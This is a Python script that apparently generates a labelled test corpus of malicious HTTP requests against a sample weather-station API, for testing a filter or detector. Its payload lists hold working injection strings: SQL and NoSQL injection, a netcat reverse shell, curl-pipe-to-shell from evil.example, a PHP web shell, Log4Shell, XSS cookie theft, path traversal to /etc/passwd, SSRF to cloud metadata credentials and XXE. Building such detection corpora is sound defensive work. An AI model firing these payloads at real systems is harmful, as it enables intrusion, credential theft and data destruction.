import json, urllib.parse, random
random.seed(7)
P={
 'sqli':["1' OR '1'='1' --","' UNION SELECT username, password FROM users--","1; DROP TABLE users --","admin'--","1' AND SLEEP(5)#","1) OR pg_sleep(5)--","' OR 1=1 LIMIT 1 -- -","1 AND extractvalue(1,concat(0x7e,version()))","'; EXEC xp_cmdshell('dir')--","1'/**/UNION/**/SELECT/**/null,null--"],
 'cmdi':["; cat /etc/passwd","$(whoami)","`id`","| nc -e /bin/sh 10.0.0.1 4444","&& curl http://evil.example/x.sh | sh","a;wget${IFS}http://evil.example/x","; ping -c 10 127.0.0.1","|| rm -rf /tmp/x","() { :; }; /bin/bash -c 'id'","& powershell -enc SQBFAFgA"],
 'code':["require('child_process').exec('id')","{{7*7}}","${jndi:ldap://evil.example/a}","<?php system($_GET['c']); ?>","__import__('os').system('id')","this.constructor.constructor('return process')()","#{T(java.lang.Runtime).getRuntime().exec('id')}","<%= system('id') %>","{{config.__class__.__init__.__globals__['os'].popen('id').read()}}","process.mainModule.require('fs').readFileSync('/etc/passwd')"],
 'xss':["<script>alert(1)</script>","<img src=x onerror=alert(document.cookie)>","javascript:alert(1)","<svg/onload=alert(1)>","\"><iframe src=javascript:alert(1)>","<body onload=alert('x')>","<a href=\"javascript:fetch('//evil.example?c='+document.cookie)\">x</a>","<details open ontoggle=alert(1)>"],
 'lfi':["../../../../etc/passwd","..\\..\\..\\windows\\win.ini","/proc/self/environ","....//....//etc/shadow","%2e%2e%2f%2e%2e%2fetc%2fpasswd","/var/run/secrets/kubernetes.io/serviceaccount/token"],
 'nosql':[{'$ne':None},{'$gt':''},{'$regex':'.*'},{'$where':'sleep(5000)'},{'$in':['admin','root']}],
 'ssrf':["http://169.254.169.254/latest/meta-data/iam/security-credentials/","http://127.0.0.1:6379/","gopher://localhost:25/_HELO","file:///etc/shadow","http://[::1]:8080/admin","http://metadata.google.internal/computeMetadata/v1/","http://10.0.0.5/internal","dict://localhost:11211/stat"],
 'xxe':['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><station><name>&xxe;</name></station>','<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><station/>','<station xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></station>'],
}
H={'Host':'api.example.com','User-Agent':'Mozilla/5.0 (X11; Linux x86_64)','Accept':'application/json','X-API-Key':'pk_live_0123456789abcdef'}
out=[]
def add(t,method,uri,body='',ct=None,extra=None):
    h=dict(H)
    if ct: h['Content-Type']=ct
    if extra: h.update(extra)
    out.append({'id':f'attack-{t}-{len(out)+1:03d}','type':t,'expect':'attack','pl':1,'method':method,'uri':uri,'headers':h,'body':body})
q=lambda s: urllib.parse.quote(s, safe='')
for t,ps in P.items():
    for p in ps:
        if t=='xxe':
            add(t,'POST','/v1/stations',p,'application/xml'); continue
        if t=='nosql':
            add(t,'POST','/v1/login',json.dumps({'username':'admin','password':p}),'application/json')
            k=list(p)[0]; add(t,'GET','/v1/users?'+'role['+q(k)+']='+q(str(p[k]) if not isinstance(p[k],list) else 'admin'))
            continue
        add(t,'GET','/v1/search?q='+q(p)+'&limit=10')
        add(t,'POST','/v1/stations',json.dumps({'name':'Harbour','description':p,'tags':['coastal']}),'application/json')
        add(t,'POST','/v1/stations/st-0042/comments',json.dumps({'author':{'name':'Ann'},'items':[{'text':'ok'},{'text':p}]}),'application/json')
        add(t,'POST','/v1/contact','name=Ann&message='+q(p),'application/x-www-form-urlencoded')
        add(t,'GET','/v1/stations',extra={'Cookie':'theme=dark; pref='+q(p)})
        add(t,'GET','/v1/weather?station='+q(q(p)))  # double-encoded
        add(t,'GET','/v1/stations/'+q(p))
        add(t,'GET','/v1/stations',extra={'Referer':p if all(32<=ord(c)<127 for c in p) else q(p)})
        add(t,'POST','/v1/stations',f'<station><description>{p.replace("&","&amp;").replace("<","&lt;")}</description></station>','application/xml')
        b='----pcB0undary'
        add(t,'POST','/v1/stations/st-0042/photos',f'--{b}\r\nContent-Disposition: form-data; name="caption"\r\n\r\n{p}\r\n--{b}--\r\n',f'multipart/form-data; boundary={b}')
print(len(out))
with open('corpora/attacks-api.jsonl','w') as f:
    for o in out: f.write(json.dumps(o,ensure_ascii=False)+'\n')
